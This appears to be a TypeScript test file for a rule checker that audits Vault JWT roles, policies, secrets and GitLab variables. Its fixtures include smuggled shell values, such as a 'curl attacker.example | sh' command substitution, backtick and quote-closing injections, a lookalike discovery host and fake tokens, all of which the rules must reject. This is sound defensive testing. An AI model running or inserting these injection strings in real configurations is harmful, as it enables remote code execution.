import { readFileSync } from "node:fs";
import { join } from "node:path";
import { DOCUMENTED_RULES, RULES, checkConfiguration, suppressionsApply, waivableIds } from "../rules";
import { ROOT, trustFor } from "./support/data";
import { withRuleTable } from "../rules/table";
import { entryPathIn, formatViolation, runRules, type RuleInput } from "../rules/rule";
import { once } from "../rules/context";
import { parsePolicyRules } from "../rules/terraform-json";
import { asInput, inputFor, resynthesize, synthesizedJson, type MutableInput } from "./support/rule-input";
import { parse } from "yaml";
import { type Config, parseConfig } from "../lib/model/config";

const role = (i: MutableInput) => i.tf.resource.vault_jwt_auth_backend_role["nexus-ci"];
const backend = (i: MutableInput) => i.tf.resource.vault_jwt_auth_backend.jwt;
const policy = (i: MutableInput, name = "kv-read_secret_nexus_svc-orchestrator") => i.tf.resource.vault_policy[name];
const secret = (i: MutableInput, name = "svc-executor") => i.tf.resource.vault_kv_secret_v2[name];
const vaultAddr = (i: MutableInput) => i.tf.resource.gitlab_group_variable.VAULT_ADDR;
/** Fake credentials for ACC-003, built at run time so that secret scanners reading this repository find no credential. */
const FAKE_VAULT_TOKEN = ["hvs", "CAESIJ2x9Qabcdefghijklmnopqrstuv"].join(".");
const FAKE_GITLAB_TOKEN = ["glpat", "abcdefghijklmnopqrst"].join("-");
const readPolicy = (path: string, caps = '"read"') => `path "${path}" {\n  capabilities = [${caps}]\n}\n`;

/** The default data has no pipeline roles: PIPE fixtures start from examples/with-pipeline.yaml (synthesized once). */
const PIPELINE_TEXT = readFileSync(join(__dirname, "..", "examples", "with-pipeline.yaml"), "utf8");
let pipelineConfig: Config | undefined;
let pipelineData: unknown;
let pipelineTf: unknown;
const withPipeline = (change: (i: MutableInput) => void) => (i: MutableInput) => {
  pipelineConfig ??= parseConfig(PIPELINE_TEXT, "examples/with-pipeline.yaml");
  Object.assign(i, { file: "examples/with-pipeline.yaml", config: structuredClone(pipelineConfig), data: structuredClone((pipelineData ??= parse(PIPELINE_TEXT))) });
  i.tf = structuredClone((pipelineTf ??= synthesizedJson(pipelineConfig)));
  change(i);
};
/** The pipeline's project id set to `id` in the data file and in both roles' bindings. */
const projectIdEverywhere = (id: number) => (i: MutableInput) => {
  i.config.pipeline.projectId = id;
  for (const kind of ["plan", "apply"] as const) pipelineRole(i, kind).bound_claims.project_id = String(id);
};
const pipelineRole = (i: MutableInput, kind: "plan" | "apply") => i.tf.resource.vault_jwt_auth_backend_role[`vault-ci-access-${kind}`];
const pipelinePolicy = (i: MutableInput, kind: "plan" | "apply") => i.tf.resource.vault_policy[`pipeline_vault-ci-access-${kind}`];
const PLAN_ROLE = "vault_jwt_auth_backend_role.vault-ci-access-plan";
const APPLY_ROLE = "vault_jwt_auth_backend_role.vault-ci-access-apply";
const PLAN_POLICY = "vault_policy.pipeline_vault-ci-access-plan.policy";
const APPLY_POLICY = "vault_policy.pipeline_vault-ci-access-apply.policy";

/** Runs one rule over an input changed by `mutate`; returns "path: message" lines. */
function findings(ruleId: string, mutate: (input: MutableInput) => void = () => {}): string[] {
  const rule = RULES.find((r) => r.id === ruleId);
  if (!rule) throw new Error(`no rule ${ruleId}`);
  const input = inputFor();
  mutate(input);
  const found = rule.check(asInput(input));
  // A finding's entry is where a suppression may waive it: it must name an entry of the data file.
  for (const { entry } of found) if (entry) expect(input.config[entry.list].map((e: { name: string }) => e.name)).toContain(entry.name);
  return found.map((f) => `${f.path}: ${f.message}`);
}

/** Changes the data, then synthesizes the stack from it, as a real synth would. */
const inData = (change: (config: any) => void) => (i: MutableInput) => {
  change(i.config);
  resynthesize(i);
};

/** One non-compliant fixture per way a rule can be broken: [rule, what is wrong, change, expected findings]. */
const NON_COMPLIANT: [string, string, (i: MutableInput) => void, string | string[]][] = [
  ["JWT-001", "role_type oidc (the provider default)", (i) => (role(i).role_type = "oidc"), 'vault_jwt_auth_backend_role.nexus-ci.role_type: is "oidc", must be "jwt"'],
  ["JWT-001", "role_type missing", (i) => delete role(i).role_type, 'vault_jwt_auth_backend_role.nexus-ci.role_type: is null, must be "jwt"'],
  ["JWT-002", "no bound_audiences", (i) => delete role(i).bound_audiences, "vault_jwt_auth_backend_role.nexus-ci.bound_audiences: is empty: any token audience would be accepted"],
  ["JWT-002", "an http audience", (i) => (role(i).bound_audiences = ["http://gitlab.shared.cwiq.io"]), 'vault_jwt_auth_backend_role.nexus-ci.bound_audiences: "http://gitlab.shared.cwiq.io" is not an https URL'],
  ["JWT-002", "an audience with a leading space", (i) => (role(i).bound_audiences = [" https://gitlab.shared.cwiq.io"]), 'vault_jwt_auth_backend_role.nexus-ci.bound_audiences: " https://gitlab.shared.cwiq.io" is not an https URL'],
  ["JWT-002", "an audience with a trailing space", (i) => (role(i).bound_audiences = ["https://gitlab.shared.cwiq.io "]), 'vault_jwt_auth_backend_role.nexus-ci.bound_audiences: "https://gitlab.shared.cwiq.io " is not an https URL'],
  ["JWT-003", "no id claim", (i) => (role(i).bound_claims = { namespace_path: "orchestrator" }), 'vault_jwt_auth_backend_role.nexus-ci.bound_claims: {"namespace_path":"orchestrator"} has no namespace_id or project_id bound to a positive integer'],
  ["JWT-003", "a non-numeric id", (i) => (role(i).bound_claims = { namespace_id: "orchestrator" }), 'vault_jwt_auth_backend_role.nexus-ci.bound_claims: {"namespace_id":"orchestrator"} has no namespace_id or project_id bound to a positive integer'],
  ["JWT-003", "id 0", (i) => (role(i).bound_claims = { project_id: "0" }), 'vault_jwt_auth_backend_role.nexus-ci.bound_claims: {"project_id":"0"} has no namespace_id or project_id bound to a positive integer'],
  ["JWT-003", "a negative id", (i) => (role(i).bound_claims = { namespace_id: "-9" }), 'vault_jwt_auth_backend_role.nexus-ci.bound_claims: {"namespace_id":"-9"} has no namespace_id or project_id bound to a positive integer'],
  ["JWT-003", "a decimal id", (i) => (role(i).bound_claims = { project_id: "9.5" }), 'vault_jwt_auth_backend_role.nexus-ci.bound_claims: {"project_id":"9.5"} has no namespace_id or project_id bound to a positive integer'],
  ["JWT-003", "no bound_claims at all", (i) => delete role(i).bound_claims, "vault_jwt_auth_backend_role.nexus-ci.bound_claims: {} has no namespace_id or project_id bound to a positive integer"],
  ["JWT-004", "project_path alone", (i) => (role(i).bound_claims = { project_path: "orchestrator/server" }), "vault_jwt_auth_backend_role.nexus-ci.bound_claims: binds only mutable claims (project_path)"],
  ["JWT-004", "user_email and environment alone", (i) => (role(i).bound_claims = { user_email: "a@cwiq.io", environment: "prod" }), "vault_jwt_auth_backend_role.nexus-ci.bound_claims: binds only mutable claims (user_email, environment)"],
  ["JWT-004", "a mutable claim beside a claim that is neither an id nor mutable", (i) => (role(i).bound_claims = { project_path: "orchestrator/server", ref_protected: "true" }), "vault_jwt_auth_backend_role.nexus-ci.bound_claims: binds only mutable claims (project_path)"],
  ["JWT-005", "glob claims", (i) => (role(i).bound_claims_type = "glob"), 'vault_jwt_auth_backend_role.nexus-ci.bound_claims_type: is "glob", must be "string"'],
  ["JWT-006", "a comma (split into alternatives)", (i) => (role(i).bound_claims.namespace_id = "9,10"), 'vault_jwt_auth_backend_role.nexus-ci.bound_claims.namespace_id: "9,10" is not one exact value'],
  ["JWT-006", "a wildcard", (i) => (role(i).bound_claims.ref = "release-*"), 'vault_jwt_auth_backend_role.nexus-ci.bound_claims.ref: "release-*" is not one exact value'],
  ["JWT-006", "surrounding whitespace", (i) => (role(i).bound_claims.namespace_id = " 9"), 'vault_jwt_auth_backend_role.nexus-ci.bound_claims.namespace_id: " 9" is not one exact value'],
  ["JWT-006", "an empty value", (i) => (role(i).bound_claims.ref = ""), 'vault_jwt_auth_backend_role.nexus-ci.bound_claims.ref: "" is not one exact value'],
  ["JWT-007", "user_claim sub", (i) => (role(i).user_claim = "sub"), 'vault_jwt_auth_backend_role.nexus-ci.user_claim: is "sub", not an id claim'],
  ["JWT-007", "user_claim user_email", (i) => (role(i).user_claim = "user_email"), 'vault_jwt_auth_backend_role.nexus-ci.user_claim: is "user_email", not an id claim'],
  ["JWT-007", "no user_claim", (i) => delete role(i).user_claim, "vault_jwt_auth_backend_role.nexus-ci.user_claim: is null, not an id claim"],
  ["JWT-008", "the root policy", (i) => role(i).token_policies.push("root"), 'vault_jwt_auth_backend_role.nexus-ci.token_policies: contains "root"'],
  ["JWT-008", "the default policy", (i) => role(i).token_policies.push("default"), 'vault_jwt_auth_backend_role.nexus-ci.token_policies: contains "default"'],
  ["JWT-008", "token_no_default_policy false", (i) => (role(i).token_no_default_policy = false), "vault_jwt_auth_backend_role.nexus-ci.token_no_default_policy: is not true: tokens would get the default policy"],
  ["JWT-009", "no token_ttl", (i) => delete role(i).token_ttl, "vault_jwt_auth_backend_role.nexus-ci.token_ttl: is 0: unset means Vault's system default (32 days)"],
  ["JWT-009", "no token_max_ttl", (i) => delete role(i).token_max_ttl, "vault_jwt_auth_backend_role.nexus-ci.token_max_ttl: is 0: unset means Vault's system maximum"],
  ["JWT-009", "max TTL above one hour", (i) => (role(i).token_max_ttl = 3601), "vault_jwt_auth_backend_role.nexus-ci.token_max_ttl: is 3601s, above the 3600s ceiling"],
  ["JWT-009", "TTL above max TTL", (i) => (role(i).token_ttl = 1801), "vault_jwt_auth_backend_role.nexus-ci.token_ttl: 1801s exceeds token_max_ttl 1800s"],
  ["JWT-010", "a periodic token", (i) => (role(i).token_period = 600), "vault_jwt_auth_backend_role.nexus-ci.token_period: is 600: periodic tokens never expire"],
  ["JWT-010", "an explicit max TTL above the ceiling", (i) => (role(i).token_explicit_max_ttl = 7200), "vault_jwt_auth_backend_role.nexus-ci.token_explicit_max_ttl: is 7200s, above the 3600s ceiling"],
  ["JWT-010", "negative token_num_uses", (i) => (role(i).token_num_uses = -1), "vault_jwt_auth_backend_role.nexus-ci.token_num_uses: is -1: Vault allows such a token unlimited requests"],
  ["JWT-010", "token_num_uses 0 (unlimited)", (i) => (role(i).token_num_uses = 0), "vault_jwt_auth_backend_role.nexus-ci.token_num_uses: is 0: Vault allows such a token unlimited requests"],
  ["JWT-010", "no token_num_uses (Vault's default: unlimited)", (i) => delete role(i).token_num_uses, "vault_jwt_auth_backend_role.nexus-ci.token_num_uses: is unset: Vault allows such a token unlimited requests"],
  ["JWT-010", "fewer uses than the role has paths", inData((c) => (c.roles[0].tokenNumUses = 5)), "vault_jwt_auth_backend_role.nexus-ci.token_num_uses: is 5, fewer than the 6 paths the role may read: a job reading them all would fail"],
  ["JWT-011", "no policies", (i) => (role(i).token_policies = []), "vault_jwt_auth_backend_role.nexus-ci.token_policies: is empty: the role grants nothing and should not exist"],
  ["JWT-011", "a policy not declared here", (i) => role(i).token_policies.push("nexus-read-policy"), 'vault_jwt_auth_backend_role.nexus-ci.token_policies: "nexus-read-policy" is not a policy declared in this stack'],
  ["JWT-011", "no token_policies at all", (i) => delete role(i).token_policies, "vault_jwt_auth_backend_role.nexus-ci.token_policies: is empty: the role grants nothing and should not exist"],
  ["JWT-012", "a role the data file does not declare", (i) => (i.tf.resource.vault_jwt_auth_backend_role.stray = { ...role(i), role_name: "stray-ci" }), 'vault_jwt_auth_backend_role.stray.role_name: "stray-ci" is declared neither under roles nor under pipeline in the data file'],
  ["JWT-013", "the group id bound as a project id", (i) => (role(i).bound_claims = { project_id: "9" }), 'vault_jwt_auth_backend_role.nexus-ci.bound_claims.project_id: is "9", which is gitlab.groupId: project 9 is not group 9'],
  ["JWT-014", "a command substitution in a ref", (i) => (i.config.roles[0].boundClaims.ref = "$(curl -s https://attacker.example/x | sh)"), 'roles[0].boundClaims.ref: "$(curl -s https://attacker.example/x | sh)" is not a value GitLab can put in ref: must be a git branch or tag name (no spaces, control characters, ~ ^ : ? * [ \\ or ..)'],
  ["JWT-014", "a namespace id that is not digits", (i) => (i.config.roles[0].boundClaims.namespace_id = "9`id`"), 'roles[0].boundClaims.namespace_id: "9`id`" is not a value GitLab can put in namespace_id: must be a positive integer id'],
  ["JWT-014", "ref_protected yes", (i) => (i.config.roles[0].boundClaims.ref_protected = "yes"), 'roles[0].boundClaims.ref_protected: "yes" is not a value GitLab can put in ref_protected: must be "true" or "false"'],
  ["JWT-014", "an environment that closes a quote", (i) => (i.config.roles[0].boundClaims.environment = 'x" >file "'), 'roles[0].boundClaims.environment: "x\\" >file \\"" is not a value GitLab can put in environment: must be an environment name: letters, digits, spaces, -, _ and /'],
  ["JWT-014", "a claim GitLab does not issue", (i) => (i.config.roles[0].boundClaims.team = "infra"), "roles[0].boundClaims.team: team is not a claim of GitLab's ID tokens that a role may bind (namespace_id, project_id, user_id, pipeline_id, job_id, runner_id, ref_protected, environment_protected, ref_type, deployment_tier, runner_environment, project_visibility, user_access_level, pipeline_source, ref, ref_path, environment, namespace_path, project_path, user_login, user_email, sha, ci_config_sha, sub)"],
  ["JWT-012", "a role without a name", (i) => delete role(i).role_name, "vault_jwt_auth_backend_role.nexus-ci.role_name: null is declared neither under roles nor under pipeline in the data file"],
  ["AUTH-001", "a trailing slash on the issuer", (i) => (backend(i).bound_issuer = "https://gitlab.shared.cwiq.io/"), 'vault_jwt_auth_backend.jwt.bound_issuer: is "https://gitlab.shared.cwiq.io/", must be exactly "https://gitlab.shared.cwiq.io"'],
  ["AUTH-001", "no issuer", (i) => delete backend(i).bound_issuer, 'vault_jwt_auth_backend.jwt.bound_issuer: is null, must be exactly "https://gitlab.shared.cwiq.io"'],
  ["AUTH-001", "another issuer", (i) => (backend(i).bound_issuer = "https://gitlab.com"), 'vault_jwt_auth_backend.jwt.bound_issuer: is "https://gitlab.com", must be exactly "https://gitlab.shared.cwiq.io"'],
  ["AUTH-001", "a trailing slash in the data file as well (the rule does not rely on the schema)", (i) => (i.config.gitlab.url = backend(i).bound_issuer = "https://gitlab.shared.cwiq.io/"), 'vault_jwt_auth_backend.jwt.bound_issuer: is "https://gitlab.shared.cwiq.io/", must be exactly "https://gitlab.shared.cwiq.io/"'],
  ["AUTH-001", "another scheme in the data file as well", (i) => (i.config.gitlab.url = backend(i).bound_issuer = "git+https://gitlab.shared.cwiq.io"), 'vault_jwt_auth_backend.jwt.bound_issuer: is "git+https://gitlab.shared.cwiq.io", must be exactly "git+https://gitlab.shared.cwiq.io"'],
  ["AUTH-002", "a JWKS URL beside discovery", (i) => (backend(i).jwks_url = "https://gitlab.shared.cwiq.io/oauth/discovery/keys"), "vault_jwt_auth_backend.jwt: has 2 key sources (oidc_discovery_url, jwks_url), must have exactly one"],
  ["AUTH-002", "no key source", (i) => delete backend(i).oidc_discovery_url, "vault_jwt_auth_backend.jwt: has 0 key sources (none), must have exactly one"],
  ["AUTH-002", "static public keys beside discovery", (i) => (backend(i).jwt_validation_pubkeys = ["-----BEGIN PUBLIC KEY-----\nMFkw\n-----END PUBLIC KEY-----"]), "vault_jwt_auth_backend.jwt: has 2 key sources (oidc_discovery_url, jwt_validation_pubkeys), must have exactly one"],
  ["AUTH-003", "discovery on another host", (i) => (backend(i).oidc_discovery_url = "https://evil.example.com"), 'vault_jwt_auth_backend.jwt.oidc_discovery_url: "https://evil.example.com" is not https on the issuer\'s host gitlab.shared.cwiq.io'],
  ["AUTH-003", "discovery over http on the issuer's host", (i) => (backend(i).oidc_discovery_url = "http://gitlab.shared.cwiq.io"), 'vault_jwt_auth_backend.jwt.oidc_discovery_url: "http://gitlab.shared.cwiq.io" is not https on the issuer\'s host gitlab.shared.cwiq.io'],
  ["AUTH-004", "a default role", (i) => (backend(i).default_role = "nexus-ci"), 'vault_jwt_auth_backend.jwt.default_role: is "nexus-ci"'],
  ["AUTH-004", "a default role on a backend without type (the provider's default is jwt)", (i) => {
    delete backend(i).type;
    backend(i).default_role = "nexus-ci";
  }, 'vault_jwt_auth_backend.jwt.default_role: is "nexus-ci"'],
  ["NAME-001", "a role named like a policy", (i) => (role(i).role_name = "kv-read.secret.nexus.svc-executor"), 'vault_jwt_auth_backend_role.nexus-ci.role_name: "kv-read.secret.nexus.svc-executor" is also a policy name'],
  ["NAME-001", "a policy declared twice", (i) => (i.tf.resource.vault_policy.copy = { ...policy(i) }), 'vault_policy.copy: declares policy "kv-read.secret.nexus.svc-orchestrator" again (also vault_policy.kv-read_secret_nexus_svc-orchestrator)'],
  ["NAME-002", "a role name on a second mount", (i) => (i.tf.resource.vault_jwt_auth_backend_role.other = { ...role(i), backend: "jwt-other" }), 'vault_jwt_auth_backend_role.other.role_name: "nexus-ci" is already declared by vault_jwt_auth_backend_role.nexus-ci on another mount'],
  ["POL-001", "a glob path", (i) => (policy(i).policy = readPolicy("secret/data/nexus/*")), 'vault_policy.kv-read_secret_nexus_svc-orchestrator.policy: grants nexus-ci "secret/data/nexus/*", not an exact secret/data/<path>'],
  ["POL-001", "a path without data/", (i) => (policy(i).policy = readPolicy("secret/nexus/svc-orchestrator")), 'vault_policy.kv-read_secret_nexus_svc-orchestrator.policy: grants nexus-ci "secret/nexus/svc-orchestrator", not an exact secret/data/<path>'],
  ["POL-001", "another mount", (i) => (policy(i).policy = readPolicy("kv/data/nexus/svc-orchestrator")), 'vault_policy.kv-read_secret_nexus_svc-orchestrator.policy: grants nexus-ci "kv/data/nexus/svc-orchestrator", not an exact secret/data/<path>'],
  ["POL-001", "a parent reference", (i) => (policy(i).policy = readPolicy("secret/data/nexus/../x")), 'vault_policy.kv-read_secret_nexus_svc-orchestrator.policy: grants nexus-ci "secret/data/nexus/../x", not an exact secret/data/<path>'],
  ["POL-001", "a one-segment glob", (i) => (policy(i).policy = readPolicy("secret/data/nexus/+")), 'vault_policy.kv-read_secret_nexus_svc-orchestrator.policy: grants nexus-ci "secret/data/nexus/+", not an exact secret/data/<path>'],
  ["POL-001", "upper case", (i) => (policy(i).policy = readPolicy("secret/data/nexus/SVC-orchestrator")), 'vault_policy.kv-read_secret_nexus_svc-orchestrator.policy: grants nexus-ci "secret/data/nexus/SVC-orchestrator", not an exact secret/data/<path>'],
  ["POL-001", "an empty segment", (i) => (policy(i).policy = readPolicy("secret/data/nexus//svc-orchestrator")), 'vault_policy.kv-read_secret_nexus_svc-orchestrator.policy: grants nexus-ci "secret/data/nexus//svc-orchestrator", not an exact secret/data/<path>'],
  ["POL-001", "a trailing slash", (i) => (policy(i).policy = readPolicy("secret/data/nexus/svc-orchestrator/")), 'vault_policy.kv-read_secret_nexus_svc-orchestrator.policy: grants nexus-ci "secret/data/nexus/svc-orchestrator/", not an exact secret/data/<path>'],
  ["POL-001", "a leading slash", (i) => (policy(i).policy = readPolicy("/secret/data/nexus/svc-orchestrator")), 'vault_policy.kv-read_secret_nexus_svc-orchestrator.policy: grants nexus-ci "/secret/data/nexus/svc-orchestrator", not an exact secret/data/<path>'],
  ["POL-001", "the data/ root itself", (i) => (policy(i).policy = readPolicy("secret/data")), 'vault_policy.kv-read_secret_nexus_svc-orchestrator.policy: grants nexus-ci "secret/data", not an exact secret/data/<path>'],
  ["POL-002", "list beside read", (i) => (policy(i).policy = readPolicy("secret/data/nexus/svc-orchestrator", '"read", "list"')), 'vault_policy.kv-read_secret_nexus_svc-orchestrator.policy: grants nexus-ci ["read","list"] on "secret/data/nexus/svc-orchestrator", must be exactly ["read"]'],
  ...(["create", "update", "patch", "delete", "deny"] as const).map((cap): [string, string, (i: MutableInput) => void, string] => [
    "POL-002",
    `${cap} beside read`,
    (i) => (policy(i).policy = readPolicy("secret/data/nexus/svc-orchestrator", `"read", "${cap}"`)),
    `vault_policy.kv-read_secret_nexus_svc-orchestrator.policy: grants nexus-ci ["read","${cap}"] on "secret/data/nexus/svc-orchestrator", must be exactly ["read"]`,
  ]),
  ["POL-002", "sudo", (i) => (policy(i).policy = readPolicy("secret/data/nexus/svc-orchestrator", '"sudo"')), 'vault_policy.kv-read_secret_nexus_svc-orchestrator.policy: grants nexus-ci ["sudo"] on "secret/data/nexus/svc-orchestrator", must be exactly ["read"]'],
  ["POL-003", "sys/", (i) => (policy(i).policy = readPolicy("sys/mounts")), 'vault_policy.kv-read_secret_nexus_svc-orchestrator.policy: grants nexus-ci the administrative path "sys/mounts"'],
  ["POL-003", "a metadata path", (i) => (policy(i).policy = readPolicy("secret/metadata/nexus/svc-orchestrator")), 'vault_policy.kv-read_secret_nexus_svc-orchestrator.policy: grants nexus-ci the administrative path "secret/metadata/nexus/svc-orchestrator"'],
  ...["auth/token/create", "identity/entity", "secret/delete/nexus/svc-orchestrator", "secret/undelete/nexus/svc-orchestrator"].map((path): [string, string, (i: MutableInput) => void, string] => [
    "POL-003",
    path.split("/").find((s) => s !== "secret") ?? path,
    (i) => (policy(i).policy = readPolicy(path)),
    `vault_policy.kv-read_secret_nexus_svc-orchestrator.policy: grants nexus-ci the administrative path "${path}"`,
  ]),
  ["POL-003", "a destroy path", (i) => (policy(i).policy = readPolicy("secret/destroy/nexus/svc-orchestrator")), 'vault_policy.kv-read_secret_nexus_svc-orchestrator.policy: grants nexus-ci the administrative path "secret/destroy/nexus/svc-orchestrator"'],
  ["POL-004", "a parameter constraint", (i) => (policy(i).policy = 'path "secret/data/a" {\n  capabilities = ["read"]\n  allowed_parameters = { "*" = [] }\n}\n'), "vault_policy.kv-read_secret_nexus_svc-orchestrator.policy: is not a list of path blocks with capabilities"],
  ["POL-004", "an empty policy", (i) => (policy(i).policy = "# nothing\n"), "vault_policy.kv-read_secret_nexus_svc-orchestrator.policy: is not a list of path blocks with capabilities"],
  ["POL-004", "one policy listed twice by the role (reported once)", (i) => {
    policy(i).policy = "# nothing\n";
    role(i).token_policies.push("kv-read.secret.nexus.svc-orchestrator");
  }, "vault_policy.kv-read_secret_nexus_svc-orchestrator.policy: is not a list of path blocks with capabilities"],
  ["POL-005", "a path granted twice", (i) => (policy(i, "kv-read_secret_nexus_svc-executor").policy = readPolicy("secret/data/nexus/svc-orchestrator")), 'vault_policy.kv-read_secret_nexus_svc-orchestrator.policy: grants nexus-ci "secret/data/nexus/svc-orchestrator" again (also vault_policy.kv-read_secret_nexus_svc-executor)'],
  ["POL-006", "a CI role among a workload secret's readers", inData((c) => c.accounts[2].readers.push("nexus-ci")), [
    "accounts[2].readers[2]: CI role nexus-ci may not read svc-deployer, which workloads read",
    "vault_policy.kv-read_secret_nexus_svc-deployer.policy: lets CI role nexus-ci read svc-deployer's secret, which workloads read",
  ]],
  ["POL-006", "a CI policy on svc-deployer's path", (i) => (policy(i).policy = readPolicy("secret/data/nexus/svc-deployer")), "vault_policy.kv-read_secret_nexus_svc-orchestrator.policy: lets CI role nexus-ci read svc-deployer's secret, which workloads read"],
  ["ACC-001", "a name outside ^svc-", inData((c) => (c.accounts[0].name = "orchestrator")), 'accounts[0].name: "orchestrator" does not match ^svc-[a-z0-9-]+$'],
  ["ACC-001", "a secret at another path", (i) => (secret(i).name = "nexus/executor"), [
    "accounts[1]: has 0 secrets at nexus/svc-executor, must have exactly one",
    'vault_kv_secret_v2.svc-executor.name: "nexus/executor" belongs to no declared account',
  ]],
  ["ACC-001", "another username", (i) => (secret(i).data_json_wo = secret(i).data_json_wo.replace('username = "svc-executor"', 'username = "admin"')), 'vault_kv_secret_v2.svc-executor.data_json_wo: does not write username "svc-executor"'],
  ["ACC-001", "a stray nexus secret", (i) => (i.tf.resource.vault_kv_secret_v2.stray = { ...secret(i), name: "nexus/svc-stray" }), 'vault_kv_secret_v2.stray.name: "nexus/svc-stray" belongs to no declared account'],
  ["ACC-001", "a second secret at an account's path", (i) => (i.tf.resource.vault_kv_secret_v2.copy = { ...secret(i) }), "accounts[1]: has 2 secrets at nexus/svc-executor, must have exactly one"],
  ["ACC-001", "a secret written while the password is the hand-set one (passwordVersion 0)", (i) => (i.config.accounts[1].passwordVersion = 0), "accounts[1]: has 1 secrets at nexus/svc-executor, must have none while passwordVersion is 0"],
  ["ACC-002", "names differing only in case", inData((c) => c.accounts.push({ ...c.accounts[0], name: "SVC-Orchestrator" })), 'accounts[3].name: "SVC-Orchestrator" duplicates accounts[0]'],
  ["ACC-006", "svc-dep1oyer beside svc-deployer", inData((c) => c.accounts.push({ ...c.accounts[2], name: "svc-dep1oyer" })), 'accounts[3].name: "svc-dep1oyer" is named like accounts[2] "svc-deployer" (the same after folding confusable characters (svcdeployer)): a reader cannot tell them apart; neither justification names the other'],
  ["ACC-006", "svc-deploy3r beside svc-deployer", inData((c) => c.accounts.push({ ...c.accounts[2], name: "svc-deploy3r" })), 'accounts[3].name: "svc-deploy3r" is named like accounts[2] "svc-deployer" (one edit apart): a reader cannot tell them apart; neither justification names the other'],
  ["ACC-003", "a password field in the data", (i) => (i.data.accounts[0].password = "hunter2hunter2"), 'accounts[0].password: field "password" holds a literal value'],
  ["ACC-003", "a password written as a number", (i) => (i.data.accounts[0].password = 12345678), 'accounts[0].password: field "password" holds a literal value'],
  ["ACC-003", "a Vault token in a description", (i) => (i.data.roles[0].description = `use ${FAKE_VAULT_TOKEN}`), "roles[0].description: looks like a Vault token"],
  ["ACC-003", "a GitLab token", (i) => (i.data.accounts[1].usedBy = FAKE_GITLAB_TOKEN), "accounts[1].usedBy: looks like a GitLab token"],
  ["ACC-003", "a password assignment in prose", (i) => (i.data.accounts[1].usedBy = "executor, password: Winter2026!"), "accounts[1].usedBy: looks like a password assignment"],
  ["ACC-003", "credentials in a URL", (i) => (i.data.gitlab.url = "https://root:pw@gitlab.shared.cwiq.io"), "gitlab.url: looks like credentials in a URL"],
  ["ACC-003", "data_json on a secret", (i) => (secret(i).data_json = '{"password":"x"}'), "vault_kv_secret_v2.svc-executor.data_json: is set: its value would be stored in state and plan"],
  ["ACC-003", "a literal password in data_json_wo", (i) => (secret(i).data_json_wo = '${jsonencode({ username = "svc-executor", password = "hunter2" })}'), "vault_kv_secret_v2.svc-executor.data_json_wo: password is a literal, must be the account's variable"],
  ["ACC-003", "a literal password written without spaces", (i) => (secret(i).data_json_wo = '${jsonencode({username="svc-executor",password="hunter2"})}'), "vault_kv_secret_v2.svc-executor.data_json_wo: password is a literal, must be the account's variable"],
  ["ACC-003", "a password from an expression that only ends like the variable", (i) => (secret(i).data_json_wo = '${jsonencode({ username = "svc-executor", password = local.var.svc_executor_password })}'), 'vault_kv_secret_v2.svc-executor.data_json_wo: password is "local.var.svc_executor_password", must be the account\'s variable'],
  ["ACC-003", "a password from another variable that starts like the account's", (i) => (secret(i).data_json_wo = '${jsonencode({ username = "svc-executor", password = var.svc_executor_password_old })}'), 'vault_kv_secret_v2.svc-executor.data_json_wo: password is "var.svc_executor_password_old", must be the account\'s variable'],
  ["ACC-004", "a second account with the same scope", inData((c) => c.accounts.push({ ...c.accounts[1], name: "svc-executor2", permissions: ["raw:read-write", "rpm:read-write"] })), 'accounts[3].permissions: ["raw:read-write","rpm:read-write"] is the same scope as svc-executor'],
  ["ACC-005", "a secret read back into state", (i) => (secret(i).disable_read = false), "vault_kv_secret_v2.svc-executor.disable_read: is not true: every refresh would copy the secret into state"],
  ["ACC-005", "a password variable that is not ephemeral", (i) => delete i.tf.variable.svc_executor_password.ephemeral, "variable.svc_executor_password: must exist and be sensitive and ephemeral"],
  ["ACC-005", "a password variable that is not sensitive", (i) => (i.tf.variable.svc_executor_password.sensitive = false), "variable.svc_executor_password: must exist and be sensitive and ephemeral"],
  ["ACC-005", "no variables at all", (i) => delete i.tf.variable, [
    "variable.svc_orchestrator_password: must exist and be sensitive and ephemeral",
    "variable.svc_executor_password: must exist and be sensitive and ephemeral",
    "variable.svc_deployer_password: must exist and be sensitive and ephemeral",
  ]],
  ["VAR-001", "an http VAULT_ADDR", (i) => (vaultAddr(i).value = "http://vault.shared.cwiq.io"), 'gitlab_group_variable.VAULT_ADDR.value: "http://vault.shared.cwiq.io" is not a bare https origin'],
  ["VAR-001", "a path and $ in VAULT_ADDR", (i) => (vaultAddr(i).value = "https://vault.shared.cwiq.io/$X"), 'gitlab_group_variable.VAULT_ADDR.value: "https://vault.shared.cwiq.io/$X" is not a bare https origin'],
  ["VAR-001", "another host", (i) => (vaultAddr(i).value = "https://vault.example.com"), "gitlab_group_variable.VAULT_ADDR.value: host vault.example.com is not the Vault host vault.shared.cwiq.io"],
  ["VAR-001", "no value", (i) => delete vaultAddr(i).value, [
    'gitlab_group_variable.VAULT_ADDR.value: "" is not a bare https origin',
    "gitlab_group_variable.VAULT_ADDR.value: host undefined is not the Vault host vault.shared.cwiq.io",
  ]],
  ["VAR-001", "a host without scheme", (i) => (vaultAddr(i).value = "vault.shared.cwiq.io"), [
    'gitlab_group_variable.VAULT_ADDR.value: "vault.shared.cwiq.io" is not a bare https origin',
    "gitlab_group_variable.VAULT_ADDR.value: host undefined is not the Vault host vault.shared.cwiq.io",
  ]],
  ["VAR-001", "a trailing slash (no $)", (i) => (vaultAddr(i).value = "https://vault.shared.cwiq.io/"), 'gitlab_group_variable.VAULT_ADDR.value: "https://vault.shared.cwiq.io/" is not a bare https origin'],
  ["VAR-002", "masked", (i) => (vaultAddr(i).masked = true), "gitlab_group_variable.VAULT_ADDR.masked: must be false: a masked URL breaks job logs and is not a secret"],
  ["VAR-002", "protected", (i) => (vaultAddr(i).protected = true), 'gitlab_group_variable.VAULT_ADDR.protected: must be false: merge-request pipelines would lose VAULT_ADDR and fail with "Could not resolve host"'],
  ["VAR-002", "not raw", (i) => (vaultAddr(i).raw = false), "gitlab_group_variable.VAULT_ADDR.raw: must be true: no variable expansion in the Vault address"],
  ["VAR-003", "a CI_ key", (i) => (i.tf.resource.gitlab_group_variable.x = { ...vaultAddr(i), key: "CI_VAULT" }), 'gitlab_group_variable.x.key: "CI_VAULT" is not an allowed key'],
  ["VAR-003", "a lower-case key", (i) => (i.tf.resource.gitlab_group_variable.x = { ...vaultAddr(i), key: "vault_addr" }), 'gitlab_group_variable.x.key: "vault_addr" is not an allowed key'],
